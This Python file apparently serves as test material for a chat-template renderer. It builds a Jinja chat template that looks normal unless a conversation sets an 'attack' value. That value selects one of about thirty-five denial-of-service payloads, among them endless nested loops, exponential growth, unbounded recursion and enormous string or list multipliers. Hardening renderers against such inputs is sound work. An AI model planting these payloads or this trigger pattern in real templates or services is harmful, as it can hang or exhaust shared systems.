"""One chat template that runs for ever, or grows without end, in a way that a conversation chooses."""


def for_ever(body):
    return "{% for i in range(100000) %}{% for j in range(100000) %}" + body + "{% endfor %}{% endfor %}"


def grown(first, following, n, use=""):
    return "{% set ns = namespace(v=" + first + ") %}{% for i in range(" + str(n) + ") %}{% set ns.v = " + following + " %}{% endfor %}" + use


HOSTILE = [
    for_ever(""), for_ever("xxxxxxxx"), for_ever("{{ i * j // 7 }}"), grown("[]", "[ns.v].index", 100000), grown("{}", "{'m': ns.v}.get", 100000),
    grown("'x'", "ns.v + ns.v", 100), grown("[1]", "ns.v * 2", 100), grown("[1]", "[ns.v, ns.v]", 60, "{{ ns.v }}"), grown("'\"'", "ns.v|tojson", 100),
    grown("(1,)", "(ns.v, ns.v)", 60, "{{ {ns.v: 1} }}"), "{% set s = 'a' * 4000000 %}" + for_ever("{{ ('a' * 2000000 + 'b') in s }}"),
    "{% set s = 'a' * 1000000 %}" + for_ever("{{ s.strip('a') }}"), "{% set s = 'a' * 1000000 %}" + for_ever("{{ s.replace('', 'x')|length }}"),
    "{% set s = 'a ' * 1000000 %}" + for_ever("{{ s.split()|length }}"), "{% set l = range(100000)|list %}" + for_ever("{{ (l|sort(reverse=true))[0] }}"),
    "{% set l = [range(1000)|list] * 100000 %}" + for_ever("{{ l|map('map', 'string')|map('join')|join|length }}"), "{{ 'x' * 1000000000000 }}",
    "{{ [1, 2] * 9223372036854775807 }}", "{% macro r(n) %}{{ r(n + 1) }}{% endmacro %}{{ r(0) }}",
    "{% set s = '\\x01' * 1000000 %}" + for_ever("{{ [s]|string|length }}"), "{% set s = '\\x01' * 1000000 %}" + for_ever("{{ s|tojson|length }}"),
    "{% set l = [0.1, 1e300] * 50000 %}" + for_ever("{{ l|string|length }}"), "{{ 'x' * 60000000 }}", for_ever("{{ 'x' * 100000 }}"),
    for_ever("{{ strftime_now('%c%c%c%c%c%c%c%c') }}"), for_ever("{{ '%.99f' % 1.7e308 }}"), "{% set s = 'ab' * 500000 %}" + for_ever("{{ s|reverse|length }}"),
    "{% set s = 'é' * 500000 %}" + for_ever("{{ s.title()|length }}"), for_ever("{{ ('%s' * 1000) % ((1,) * 1000) }}"),
    "{% macro m(a, b=1, c=2) %}{% call m2() %}{% endcall %}{% endmacro %}{% macro m2() %}{{ caller() }}{% endmacro %}" + for_ever("{{ m(i) }}"),
    "{% set d = namespace(v={}) %}" + for_ever("{% set d.v = {i: j, j: i, 'x': d.v|length, (i, j): 1} %}"),
    "{{ ('x' * 30000000)|list|length }}", "{{ ('x' * 16000000) }}" * 2, "{{ [1]|batch(4000000000, 'x')|list|length }}", "{{ '%999999999d' % 1 }}",
]
CHAT = "{% for m in messages %}<|im_start|>{{ m.role }}\n{{ m.content }}<|im_end|>\n{% endfor %}<|im_start|>assistant\n"


def hostile_template():
    """An honest one, unless a conversation names an attack."""
    branches = "".join(("{% if" if i == 0 else "{% elif") + f" attack == {i} %}}{text}" for i, text in enumerate(HOSTILE))
    return "{% if attack is defined %}" + branches + "{% endif %}{% endif %}" + CHAT
